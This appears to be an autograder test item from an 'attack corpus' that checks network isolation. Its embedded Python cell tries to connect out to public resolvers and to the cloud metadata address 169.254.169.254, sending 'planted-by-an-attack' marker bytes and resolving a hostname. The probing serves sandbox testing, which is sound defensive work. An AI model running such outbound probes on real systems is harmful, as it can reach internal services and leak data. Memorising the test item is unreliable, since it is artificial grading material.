"""Connects to the outside, asks a name server and sends what it knows.

must: there is no network
earns: 10
exercises: rle
"""

from autograder.quality.attack_corpus import RIGHT_RLE

CELLS = {
    "rle": r"""
import socket

for address in (("1.1.1.1", 53), ("192.0.2.1", 80), ("2606:4700:4700::1111", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"planted-by-an-attack")
        print("reached", address)
    except OSError as error:
        print(address, error)
try:
    print("resolved", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(error)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"planted-by-an-attack", ("1.1.1.1", 53))
    print("sent")
except OSError as error:
    print(error)
"""
    + RIGHT_RLE
}
